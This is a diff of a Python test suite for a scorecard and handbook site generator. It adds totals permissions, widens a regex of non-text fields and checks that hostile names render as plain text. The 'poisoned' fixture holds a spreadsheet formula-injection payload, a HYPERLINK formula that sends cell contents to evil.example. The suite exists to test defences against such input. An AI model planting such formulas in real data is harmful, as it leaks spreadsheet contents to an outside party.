@@ -114,8 +114,13 @@ def full() -> Tiny:
         }
     )
     tiny.files["scorecards/access.yml"]["groups"] = [
-        {"id": "g", "name": tiny.local("x"), "logins": ["x"], "may": ["organisation", "data-quality"]}
+        {"id": "g", "name": tiny.local("x"), "logins": ["x"], "may": ["organisation", "totals", "data-quality"]}
     ]
+    tiny.files[f"standards/method/{START}.yml"]["minimum_group"] = 2
+    tiny.files[f"standards/method/{START}.yml"]["organisation"] = {
+        "headline": [{"standard": "bookings", "measure": "attainment"}],
+        "totals": [{"standard": "bookings", "measure": "attainment"}],
+    }
     sales = tiny.files["scorecards/sources.yml"]["sources"]["sales"]
     sales["title"] = tiny.local("x")
     sales["columns"]["bookings"]["title"] = tiny.local("x")
@@ -141,7 +146,8 @@ def full() -> Tiny:
 #: Fields of YAML files that are no texts: a closed list of words, an id, an expression, a date, a number.
 CLOSED = re.compile(
     r"(^|\.)(id|role|kind|source|numerator|denominator|value|count|window|unit|better|by|effective_from|published_on|label"
-    r"|group|country|region|locale|delimiter|type|accumulate|default|when|item|currency|key\.\d+|may\.\d+)$"
+    r"|group|country|region|locale|delimiter|type|accumulate|default|when|item|currency|key\.\d+|may\.\d+"
+    r"|everyone\.\d+|logins\.\d+|standard|measure)$"
 )
 TEXT_DESPITE = re.compile(r"(^|\.|/)(standard\.yml\.source|labels\.\w+\.\w+|label\.\w+|unit_label\.\w+)$")
 
@@ -160,10 +166,9 @@ def poisoned() -> tuple[Tiny, list[str]]:
             fields.append(name)
             holder[key] = attack(name)
     for row, person in enumerate(tiny.people[1:], 1):
-        for column in (1, 2):
-            name = f"reps.csv.{row}.{column}"
-            fields.append(name)
-            person[column] = attack(name)
+        name = f"reps.csv.{row}.1"
+        fields.append(name)
+        person[1] = attack(name)
     tiny.people[2][1] = '=HYPERLINK("https://evil.example/?"&A1,"x")' + LONG
     tiny.files["scorecards/teams.csv"][1][1] = attack("teams.csv.1")
     fields += ["teams.csv.1", "assignments.csv.1", "sales.csv"]
@@ -325,6 +330,13 @@ def test_hostile_names_appear_as_text(hostile: Built) -> None:
     whole(f"handbook.yml.product_lines.{len(full().lines) - 1}.name.de", quality)
     for field in ("sales.title.de", "sales.columns.bookings.title.de", "visits.title.de"):
         whole(f"sources.yml.sources.{field}", quality)
+    totals = f"totals/de/{MONTHS[-1]}/index.html"
+    for name in ("teams.csv.1", "handbook.yml.organisation", "handbook.yml.product_lines.0.name.de"):
+        whole(name, totals)
+    for field in ("title.de", "labels.numerator.de"):
+        whole(f"bookings/{START}.yml.measures.0.{field}", totals)
+    whole(f"bookings/{START}.yml.measures.0.title.de", "months/de/standards/bookings/index.html")
+    whole("reps.csv.1.1", f"scorecards/ann/de/{MONTHS[-1]}/conversation/index.html")
     whole("handbook.yml.organisation", "index.html", f"months/en/{MONTHS[-1]}/index.html")
     whole("handbook.yml.title.en", "index.html", "en/standards/index.html")
     whole("handbook.yml.languages.en.name", "index.html", "de/index.html", card)
